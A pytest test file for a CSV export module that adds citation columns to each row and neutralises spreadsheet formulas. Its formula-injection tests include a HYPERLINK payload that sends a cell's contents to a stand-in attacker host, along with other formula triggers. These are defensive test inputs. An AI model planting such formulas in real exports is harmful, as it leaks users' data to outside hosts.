"""homefront.downloads: a CSV that pandas and a spreadsheet open without options, cites
itself on every row, and never holds a formula (issues 13.8 and 14.10)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from homefront.citations import cite
from homefront.downloads import (
    CITATION_COLUMNS,
    FORMULA_START,
    ViewRecord,
    download_bytes,
    neutralise,
    to_csv,
)
from homefront.queries import events_table, figures_table

VIEW = ViewRecord("Home Front, events; sources: all", "http://localhost:8501/data?q=mothers")
DAY = dt.date(2026, 12, 1)


def read(data: bytes) -> pd.DataFrame:
    """As a user would: pandas.read_csv with no options."""
    return pd.read_csv(io.BytesIO(data))


@pytest.mark.parametrize("make_table", [events_table, figures_table])
def test_the_csv_reads_back_with_no_options(fixture_dataset, make_table):
    records = fixture_dataset.events if make_table is events_table else fixture_dataset.figures
    table = make_table(records, fixture_dataset)
    back = read(download_bytes(table, fixture_dataset.sources.values(), VIEW, DAY))
    assert list(back.columns) == list(table.columns) + list(CITATION_COLUMNS)
    assert len(back) == len(records)
    assert back["id"].tolist() == table["id"].tolist()
    assert set(back["view_link"]) == {VIEW.link}
    assert set(back["view_filters"]) == {VIEW.filters}
    assert set(back["downloaded_on"]) == {"2026-12-01"}


def test_the_header_is_the_first_line_and_nothing_follows_the_rows(fixture_dataset):
    table = figures_table(fixture_dataset.figures, fixture_dataset)
    text = download_bytes(table, fixture_dataset.sources.values(), VIEW, DAY).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "id"
    assert len(rows) == 1 + len(table)
    assert not any(line.startswith("#") for line in text.splitlines())


def test_each_row_cites_its_own_sources(fixture_dataset):
    table = figures_table(fixture_dataset.figures, fixture_dataset)
    back = read(download_bytes(table, fixture_dataset.sources.values(), VIEW, DAY))
    for source_id, cited in zip(back["source"], back["cite_as"], strict=True):
        assert cited == cite(fixture_dataset.sources[source_id])


def test_a_table_without_source_ids_cites_every_source_given(fixture_dataset):
    gamma = fixture_dataset.sources["gamma"]
    back = read(download_bytes(pd.DataFrame({"deaths": [1, 2]}), [gamma], VIEW, DAY))
    assert back["cite_as"].tolist() == [cite(gamma)] * 2
    assert back["deaths"].tolist() == [1, 2]


def test_accents_and_hashes_survive(fixture_dataset):
    table = pd.DataFrame({"quote": ["#NoWar on the wall", "Улан-Удэ"], "n": [1, 2]})
    back = read(download_bytes(table, [], VIEW, DAY))
    assert back["quote"].tolist() == ["#NoWar on the wall", "Улан-Удэ"]


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click for source")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_a_formula_is_written_as_text(payload):
    text = to_csv(pd.DataFrame({"title": [payload]})).decode("utf-8-sig")
    cell = list(csv.reader(io.StringIO(text)))[1][0]
    assert cell == "'" + payload


def test_headers_are_neutralised_too():
    text = to_csv(pd.DataFrame({"=cmd": ["a"]})).decode("utf-8-sig")
    assert next(iter(csv.reader(io.StringIO(text)))) == ["'=cmd"]


def test_numbers_stay_numbers():
    back = read(to_csv(pd.DataFrame({"value": [-5, 3.5]})))
    assert back["value"].tolist() == [-5, 3.5]


def test_counts_with_a_gap_are_written_as_whole_numbers():
    """A column of counts with an empty cell is float in pandas: "1351.0" in a spreadsheet."""
    table = pd.DataFrame({"count": [1351.0, None, 2.0], "rate": [1.5, 2.0, None]})
    rows = to_csv(table).decode("utf-8-sig").splitlines()
    assert rows[1:] == ["1351,1.5", '"",2.0', '2,""']


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_cell_of_any_text_can_start_a_formula(cells):
    """Property: whatever the text, no cell read back starts with a formula trigger, and the
    cell is the text itself or the text after one apostrophe."""
    text = to_csv(pd.DataFrame({"text": cells})).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(rows) == len(cells)
    for (cell,), original in zip(rows, cells, strict=True):
        assert not cell.startswith(FORMULA_START)
        assert cell == (("'" + original) if original.startswith(FORMULA_START) else original)


@given(st.text())
def test_neutralise_changes_only_what_could_start_a_formula(value):
    out = neutralise(value)
    assert not out.startswith(FORMULA_START)
    assert out in (value, "'" + value)
